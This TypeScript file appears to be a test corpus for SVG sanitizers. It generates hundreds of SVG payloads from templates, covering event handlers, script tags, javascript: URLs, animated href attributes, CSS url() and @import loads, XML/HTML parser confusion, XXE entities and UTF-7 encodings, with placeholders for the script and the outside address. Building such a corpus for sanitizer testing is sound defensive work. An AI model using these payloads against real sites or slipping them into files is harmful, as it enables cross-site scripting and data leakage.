/**
 * Ways in which SVG has passed scripts or requests through sanitizers, as published for browsers, libraries and proxies.
 * They use event handlers, scripts, addresses, animation, CSS, and differences between XML and HTML. `RUN` stands for a
 * script, and `OUT` for another address. The file is long because it is one list, whose entries are numbered together. Text that begins with neither `<?xml`, `<!DOCTYPE` nor `<svg xmlns` is put into an
 * icon.
 */
export const BYPASSES: readonly string[] = [
  ...handlers(),
  ...scripts(),
  ...htmlElements(),
  ...scriptAddresses(),
  ...outsideAddresses(),
  ...animations(),
  ...styleSheets(),
  ...styleValues(),
  ...readDifferently(),
  ...encodings(),
]

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
const MOVES = '<animate attributeName="opacity" values="0;1" dur="1s"/>'

/**
 * @returns the whole file of a bypass
 * @param run A statement.
 * @param out An address.
 */
export function fileOf(bypass: string, run: string, out: string): string {
  const whole = /^\uFEFF?<(?:\?xml|!DOCTYPE|svg xmlns)/.test(bypass) ? bypass : `${SVG}${MOVES}${bypass}</svg>`
  return whole.replaceAll('RUN', run).replaceAll('OUT', out)
}

function handlers(): string[] {
  const events =
    'abort activate animationend animationstart auxclick beforecopy beforeinput begin blur canplay change click ' +
    'contextmenu copy cut dblclick drag dragend dragenter dragover dragstart drop end error focus focusin focusout ' +
    'gotpointercapture hashchange input keydown keypress keyup load loadstart message mousedown mouseenter mouseleave ' +
    'mousemove mouseout mouseover mouseup pageshow paste pointerdown pointerenter pointermove pointerover pointerup ' +
    'repeat resize scroll select selectstart toggle touchstart transitionend unload wheel zoom'
  return [
    ...events.split(' ').map((event) => `<rect width="9" height="9" on${event}="RUN"/>`),
    '<svg onload="RUN"/>',
    '<g><svg ONLOAD="RUN"/></g>',
    '<style onload="RUN">g{fill:red}</style>',
    '<image href="data:image/png;base64,AAAA" onerror="RUN"/>',
    '<image xlink:href="OUT" onerror="RUN"/>',
    '<animate attributeName="x" dur="1ms" onbegin="RUN"/>',
    '<animate attributeName="x" dur="1ms" onend="RUN"/>',
    '<animate attributeName="x" dur="1ms" repeatCount="2" onrepeat="RUN"/>',
    '<set attributeName="x" to="1" begin="0s" onbegin="RUN"/>',
    '<animateTransform attributeName="transform" type="rotate" dur="1s" onbegin="RUN"/>',
    '<animateMotion path="M0 0" dur="1s" onbegin="RUN"/>',
    '<text tabindex="0" autofocus="" onfocus="RUN">a</text>',
    '<discard begin="0s" onbegin="RUN"/>',
    '<use href="#a" onload="RUN"/>',
    '<title onclick="RUN">a</title>',
    '<rect xmlns:a="http://www.w3.org/2000/svg" a:onclick="RUN"/>',
    '<rect onclick&#61;="RUN"/>',
    '<rect on\nclick="RUN"/>',
    '<rect onclick\n=\n"RUN"/>',
    '<rect formaction="javascript:RUN" onclick="RUN"/>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="RUN"><animate attributeName="x" dur="1s"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" OnLoad="RUN"><animate attributeName="x" dur="1s"/></svg>',
  ]
}

function scripts(): string[] {
  return [
    '<script>RUN</script>',
    '<script><![CDATA[RUN]]></script>',
    '<script>&#x52;&#x55;&#x4e;</script><script>RUN</script>',
    '<SCRIPT>RUN</SCRIPT>',
    '<ScRiPt>RUN</ScRiPt>',
    '<script type="text/ecmascript">RUN</script>',
    '<script type="module">RUN</script>',
    '<script type="application/ecmascript">RUN</script>',
    '<script href="OUT"/>',
    '<script xlink:href="OUT"/>',
    '<script src="OUT"/>',
    '<script href="data:text/javascript,RUN"/>',
    '<script xlink:href="data:text/javascript,RUN"/>',
    '<script href="data:,RUN"></script>',
    '<script href="#a"/><text id="a">RUN</text>',
    '<defs><script>RUN</script></defs>',
    '<switch><script>RUN</script></switch>',
    '<title><script>RUN</script></title>',
    '<desc><script>RUN</script></desc>',
    '<metadata><script>RUN</script></metadata>',
    '<style><script>RUN</script></style>',
    '<text><script>RUN</script></text>',
    '<s:script xmlns:s="http://www.w3.org/2000/svg">RUN</s:script>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">RUN</h:script>',
    '<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>',
    '<g xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></g>',
    '<script/>RUN</script>',
    '<script\n>RUN</script\n>',
    '<script x="&gt;">RUN</script>',
    '<handler type="text/javascript" event="load">RUN</handler>',
    '<x:script xmlns:x="http://www.w3.org/2000/svg" x:href="OUT"/>',
    '<script id="a">RUN</script><use href="#a"/>',
    '<scr<script>ipt>RUN</script>',
    '<scr\u0000ipt>RUN</scr\u0000ipt>',
    '<svg><svg><script>RUN</script></svg></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>RUN</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><animate attributeName="x" dur="1s"/><g/></svg><script>RUN</script>',
    '<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><script>RUN</script></svg>',
  ]
}

/** Elements of HTML in a `foreignObject`, with and without their namespace, and beside shapes. */
function htmlElements(): string[] {
  const elements = [
    '<img src="x" onerror="RUN"/>',
    '<img src="OUT"/>',
    '<img srcset="OUT 1x"/>',
    '<iframe src="javascript:RUN"></iframe>',
    '<iframe src="OUT"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
    '<object data="OUT"></object>',
    '<embed src="OUT"/>',
    '<video src="OUT" onerror="RUN"></video>',
    '<video poster="OUT"></video>',
    '<audio src="x" onerror="RUN"></audio>',
    '<body onload="RUN"></body>',
    '<details open="" ontoggle="RUN">a</details>',
    '<input autofocus="" onfocus="RUN"/>',
    '<input type="image" src="OUT"/>',
    '<link rel="stylesheet" href="OUT"/>',
    '<link rel="preload" as="image" href="OUT"/>',
    '<meta http-equiv="refresh" content="0;url=OUT"/>',
    '<base href="OUT"/><img src="a"/>',
    '<form action="javascript:RUN"><button>a</button></form>',
    '<a href="javascript:RUN">a</a>',
    '<marquee onstart="RUN">a</marquee>',
    '<select onfocus="RUN" autofocus=""></select>',
    '<svg><script>RUN</script></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:RUN">a</maction></math>',
  ]
  return elements.flatMap((element) => [
    `<foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">${element}</div></foreignObject>`,
    `<g>${element}</g>`,
  ])
}

function scriptAddresses(): string[] {
  const addresses = [
    'javascript:RUN',
    'JaVaScRiPt:RUN',
    ' javascript:RUN',
    'java&#9;script:RUN',
    'java&#10;script:RUN',
    'java&#13;script:RUN',
    'javascript&#9;:RUN',
    '&#106;avascript:RUN',
    '&#x6A;&#x61;vascript:RUN',
    'javascript&#58;RUN',
    'javascript&#x3A;RUN',
    '\u00a0javascript:RUN',
    '\u2028javascript:RUN',
    'javascript://%0aRUN',
    'javascript:/*--&gt;*/RUN',
    'javascript:%52%55%4E;RUN',
    'vbscript:RUN',
    'data:text/html,&lt;script&gt;parent.RUN&lt;/script&gt;',
    'data:image/svg+xml,&lt;svg xmlns="x"/&gt;',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '//x:javascript:RUN',
  ].map((address) => address.replaceAll('xmlns="x"', 'xmlns=&quot;x&quot;'))
  return addresses.flatMap((address) => [
    `<a href="${address}"><rect width="9" height="9"/></a>`,
    `<a xlink:href="${address}"><text>a</text></a>`,
    `<use href="${address}"/>`,
  ])
}

function outsideAddresses(): string[] {
  const elements =
    'use image feImage mpath textPath pattern linearGradient radialGradient filter tref cursor glyphRef ' +
    'font-face-uri color-profile animation audio video iframe script view mask'
  return [
    ...elements.split(' ').flatMap((name) => [`<${name} href="OUT#a"/>`, `<${name} xlink:href="OUT#a"/>`]),
    '<image src="OUT" width="9" height="9"/>',
    '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>',
    '<image href="data:image/svg+xml,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;image href=&quot;OUT&quot;/&gt;&lt;/svg&gt;" width="9" height="9"/>',
    '<use href="data:image/svg+xml,&lt;svg id=&quot;a&quot; xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;RUN&quot;/&gt;#a"/>',
    '<image y:href="OUT" xmlns:y="http://www.w3.org/1999/xlink" width="9" height="9"/>',
    '<image href="#a" xlink:href="OUT" width="9" height="9"/>',
    '<image xlink:href="#a" href="OUT" width="9" height="9"/>',
    '<g xml:base="OUT"><image href="a.png" width="9" height="9"/></g>',
    '<image href="/../OUT" width="9" height="9"/>',
    '<image href="&#10;OUT" width="9" height="9"/>',
    '<image href="data:image/png;base64,AAAA&#10;,OUT" width="9" height="9"/>',
    '<image href="#a" width="9" height="9"/>',
    '<image xlink:href="#" width="9" height="9"/>',
    '<rect width="9" height="9" cursor="url(#a),auto"/>',
    '<rect width="9" height="9" style="--a:url(#a);cursor:var(--a),auto"/>',
  ]
}

function animations(): string[] {
  const targets = ['href', 'xlink:href', ' href ', 'HREF', 'onclick', 'style', 'class', 'xml:base', 'begin', 'to']
  return [
    ...targets.flatMap((target) => [
      `<a><set attributeName="${target}" to="javascript:RUN"/><rect width="9" height="9"/></a>`,
      `<a><animate attributeName="${target}" values="javascript:RUN;#a" dur="9s" fill="freeze"/><text>a</text></a>`,
      `<image width="9" height="9"><set attributeName="${target}" to="OUT"/></image>`,
    ]),
    '<a id="a"><text>a</text></a><animate href="#a" attributeName="href" from="javascript:RUN" to="#" dur="9s"/>',
    '<a id="b"><text>a</text></a><animate xlink:href="#b" attributeName="xlink:href" by="javascript:RUN" dur="9s"/>',
    '<image width="9" height="9"><animate attributeName="href" values="OUT;OUT" dur="9s"/></image>',
    '<rect width="9" height="9"><set attributeName="fill" to="url(OUT#a)"/></rect>',
    '<rect width="9" height="9"><set attributeName="mask" to="url(OUT)"/></rect>',
    '<rect width="9" height="9"><animate attributeName="filter" values="url(OUT#a);none" dur="1s"/></rect>',
    '<rect width="9" height="9"><set attributeName="cursor" to="url(OUT),auto"/></rect>',
    `<rect width="9" height="9"><set attributeName="mask" to="image-set('OUT' 1x)"/></rect>`,
    '<rect width="9" height="9"><set attributeName="style" to="mask:url(OUT)"/></rect>',
    '<set attributeName="onload" to="RUN"/>',
    '<set attributeName="innerHTML" to="&lt;img src=x onerror=RUN&gt;"/>',
    '<animate attributeType="XML" attributeName="href" to="OUT"/>',
    '<a><animateTransform attributeName="href" type="translate" to="javascript:RUN" dur="1s"/><text>a</text></a>',
    '<animateMotion path="M0 0" dur="1s"><mpath href="OUT#a"/></animateMotion>',
  ]
}

function styleSheets(): string[] {
  const sheets = [
    '@import "OUT";',
    "@import 'OUT';",
    '@import url(OUT);',
    '@import url("OUT") screen;',
    '@IMPORT "OUT";',
    '@\\69mport "OUT";',
    '@\\000069 mport "OUT";',
    '@import/**/"OUT";',
    '@x "/*"; @import "OUT"; /* "*/',
    '@charset "utf-8"; @import "OUT";',
    '@layer a; @import "OUT" layer(a);',
    '@import "OUT" supports(display:block);',
    '@namespace url(OUT); @import "OUT";',
    '/* */ @import "OUT";',
    '}@import "OUT";',
    '{} @import "OUT"; g{mask:url(OUT)}',
    '"a\n@import "OUT"; ',
    '@font-face{font-family:a;src:url(OUT)} text{font-family:a}',
    '@font-face{font-family:b;src:local(x),url("OUT")format("woff")} *{font-family:b}',
    '*{background:url(OUT)}',
    '*{background-image:URL("OUT")}',
    '*{background:u\\72l(OUT)}',
    '*{background:\\75\\72\\6c(OUT)}',
    '*{background:url(\\OUT)}',
    '*{background:url(/**/OUT)}',
    '*{b:"/*";background:url(OUT);c:"*/"}',
    "*{background:image-set('OUT' 1x)}",
    '*{background:-webkit-image-set(url(OUT) 1x)}',
    '*{background:-webkit-cross-fade(url(OUT),url(OUT),50%)}',
    '*{list-style:url(OUT)} ',
    '*{content:url(OUT)}',
    '*::before{content:url(OUT)}',
    '*{border-image:url(OUT) 1}',
    '*{cursor:url(OUT),auto}',
    '*{mask:url(OUT)}',
    '*{-webkit-mask:url(OUT)}',
    '*{mask-image:url(OUT)}',
    '*{filter:url(OUT#a)}',
    '*{clip-path:url(OUT#a)}',
    '*{fill:url(OUT#a)}',
    '*{marker:url(OUT#a)}',
    '*{shape-outside:url(OUT)}',
    '*{offset-path:url(OUT#a)}',
    '*{--a:url(OUT);background:var(--a)}',
    "*{--a:'OUT';background:image-set(var(--a) 1x)}",
    '*{background:src("OUT")}',
    '*{background:image("OUT")}',
    '*{-moz-binding:url(OUT#a)}',
    '*{behavior:url(OUT)}',
    '*{width:expression(RUN)}',
    '*{background:url(javascript:RUN)}',
    '@media all{*{background:url(OUT)}}',
    '@supports (display:block){*{background:url(OUT)}}',
    '@container (width>0){*{background:url(OUT)}}',
    '@layer{*{background:url(OUT)}}',
    '@scope{*{background:url(OUT)}}',
    '@starting-style{*{background:url(OUT)}}',
    '@keyframes a{from,to{background:url(OUT)}} *{animation:a 9s}',
    '@property --b{syntax:"<url>";inherits:true;initial-value:url(OUT)} *{background:var(--b)}',
    'g{*{background:url(OUT)}} svg{&{background:url(OUT)}}',
    '@page{background:url(OUT)} svg{background:url(OUT)}',
    '@document url(OUT){*{background:url(OUT)}} svg{background:url(OUT)}',
    '*[id^="a"]{background:url(OUT)} svg{background:url(OUT)}',
    '@view-transition{navigation:auto} svg{background:url(OUT)}',
  ]
  return sheets.flatMap((css, at) => {
    const text = css.replaceAll('<', '&lt;')
    return at % 3 === 0 ? [`<style><![CDATA[${css}]]></style>`, `<style>${text}</style>`] : [`<style>${text}</style>`]
  })
}

function styleValues(): string[] {
  const values = [
    'background:url(OUT)',
    'background:u\\72 l(OUT)',
    'fill:url(OUT#a)',
    'mask:url(OUT)',
    "mask:image-set('OUT' 1x)",
    '-webkit-mask:url(OUT)',
    'mask-image:url(OUT)',
    'filter:url(OUT#a)',
    'a:&quot;/*&quot;;background:url(OUT)',
    'background:url(&quot;OUT&quot;)',
    'background:url(&#10;OUT&#10;)',
    '--a:url(OUT);background:var(--a)',
    'width:expression(RUN)',
    'background:url(javascript:RUN)',
    'list-style-image:url(OUT);display:list-item',
    'content:url(OUT)',
    'border-image-source:url(OUT);border:1px solid',
    'background:url(#a),url(OUT)',
    'color:red}*{background:url(OUT)}',
    'color:red;;;background:url(OUT',
  ]
  const attributes = ['fill', 'stroke', 'mask', 'filter', 'clip-path', 'cursor', 'marker-end', 'style']
  return [
    ...values.map((value) => `<g style="${value}"><rect width="9" height="9"/></g>`),
    ...attributes.map((name) => `<path d="M0 0H9V9" ${name}="url(OUT)"/>`),
    ...attributes.map((name) => `<path d="M0 0H9V9" ${name}="u\\72l(&quot;OUT&quot;)"/>`),
    `<rect width="9" height="9" mask="image-set('OUT' 1x)"/>`,
    `<rect width="9" height="9" mask="-webkit-image-set(url(OUT) 1x)"/>`,
    '<rect width="9" height="9" fill="url( &quot;OUT&quot; ) red"/>',
    '<rect width="9" height="9" fill="red;background:url(OUT)"/>',
  ]
}

/** Text, comments and sections in XML that are markup in HTML, because their container ends or contains HTML. */
function readDifferently(): string[] {
  const img = '<img src="x" onerror="RUN">'
  const containers = ['title', 'desc', 'style', 'text', 'g', 'metadata', 'defs', 'tspan']
  const wrapped = containers.flatMap((name) => [
    `<${name}><![CDATA[${img}]]></${name}>`,
    `<${name}><![CDATA[</${name}>${img}]]></${name}>`,
    `<${name}><![CDATA[</svg>${img}]]></${name}>`,
    `<${name}><![CDATA[a]]&gt;${img}]]></${name}>`,
    `<${name}><!--> ${img} --></${name}>`,
    `<${name}><?a >${img}?></${name}>`,
  ])
  const breakouts = ['p', 'div', 'b', 'br', 'table', 'span', 'font color="a"', 'h1', 'center', 'pre'].map(
    (tag) => `<desc><![CDATA[<${tag}><style><!--</style>${img}-->]]></desc>`,
  )
  const raw = ['textarea', 'xmp', 'noscript', 'noembed', 'noframes', 'iframe', 'plaintext', 'template', 'select'].map(
    (tag) => `<title><![CDATA[<${tag}></title></${tag}>${img}]]></title>`,
  )
  return [
    ...wrapped,
    ...breakouts,
    ...raw,
    '<!--><script>RUN</script>-->',
    '<!---><script>RUN</script>-->',
    '<!-- a --!><script>RUN</script> -->',
    '<![CDATA[<script>RUN</script>]]>',
    '<![CDATA[><script>RUN</script>]]>',
    '<?a ><script>RUN</script>?>',
    '<?xml-stylesheet href="OUT"?>',
    '<!ELEMENT a><script>RUN</script>',
    '<title>&lt;img src=x onerror=RUN&gt;</title>',
    '<desc>&lt;/desc&gt;&lt;script&gt;RUN&lt;/script&gt;</desc>',
    '<style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style>',
    '<text>&amp;lt;img src=x onerror=RUN&amp;gt;</text>',
    '<g id="&quot;&gt;&lt;img src=x onerror=RUN&gt;"/>',
    `<g id='"><img src=x onerror=RUN>'/>`.replace('<img', '&lt;img'),
    '<g class="`&gt;&lt;img src=x onerror=RUN&gt;`"/>',
    '<g aria-label="&lt;/title&gt;&lt;script&gt;RUN&lt;/script&gt;"/>',
    '<g aria-label="--&gt;&lt;script&gt;RUN&lt;/script&gt;"/>',
    '<style>.a{font-family:"&lt;/style&gt;&lt;img src=x onerror=RUN&gt;"}</style>',
    '<style>g{fill:red}/*&lt;/style&gt;&lt;img src=x onerror=RUN&gt;*/</style>',
    '<desc><style><!--</style><img src="x" onerror="RUN"/>--></style></desc>',
    '<title><g/><style><![CDATA[</style><img src=x onerror=RUN>]]></style></title>',
    '<math><mtext><table><mglyph><style><!--</style><img src="x" onerror="RUN"/></style></mglyph></table></mtext></math>',
    '<g><p/><style><![CDATA[<img src=x onerror=RUN>]]></style></g>',
    '<svg><style><![CDATA[a</style><img src=x onerror=RUN>]]></style></svg>',
    '<desc><svg><style>a</style></svg><![CDATA[<img src=x onerror=RUN>]]></desc>',
    '<text><title><![CDATA[<img src=x onerror=RUN>]]></title></text>',
    '<annotation-xml encoding="text/html"><style><![CDATA[<img src=x onerror=RUN>]]></style></annotation-xml>',
  ]
}

function encodings(): string[] {
  const open = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">'
  const inside = `<animate attributeName="x" dur="1s"/>`
  return [
    `<?xml version="1.0" encoding="UTF-7"?>${open}${inside}+ADw-script+AD4-RUN+ADw-/script+AD4-</svg>`,
    `<?xml version="1.0" encoding="UTF-16"?>${open}${inside}<script>RUN</script></svg>`,
    `<?xml version="1.0" encoding="ISO-2022-JP"?>${open}${inside}<title>\u001b$B</title><script>RUN</script></svg>`,
    `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="OUT"?>${open}${inside}</svg>`,
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="OUT"?>${open}${inside}</svg>`,
    `<?xml version="1.0"?><?xml-stylesheet href="data:text/css,*{background:url(OUT)}"?>${open}${inside}</svg>`,
    `<!DOCTYPE svg [<!ENTITY a "&#60;script>RUN&#60;/script>">]>${open}${inside}&a;</svg>`,
    `<!DOCTYPE svg [<!ENTITY a SYSTEM "OUT">]>${open}${inside}&a;</svg>`,
    `<!DOCTYPE svg [<!ENTITY % a SYSTEM "OUT"> %a;]>${open}${inside}</svg>`,
    `<!DOCTYPE svg SYSTEM "OUT">${open}${inside}<script>RUN</script></svg>`,
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "RUN">]>${open}${inside}</svg>`,
    `<!DOCTYPE svg [<!ATTLIST g xmlns CDATA "http://www.w3.org/1999/xhtml">]>${open}${inside}<g/></svg>`,
    `\uFEFF<?xml version="1.0"?>${open}${inside}<script>RUN</script></svg>`,
    `${open}${inside}<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="OUT"/></svg>`,
    `${open}${inside}<script>RUN</script>`,
    `${open}${inside}</svg><!--><script>RUN</script>-->`,
    `${open}${inside}</svg><?a ><script>RUN</script>?>`,
    `${open.replace('>', ' a="&#x3c;/svg>&#x3c;script>RUN&#x3c;/script>">')}${inside}</svg>`,
  ]
}
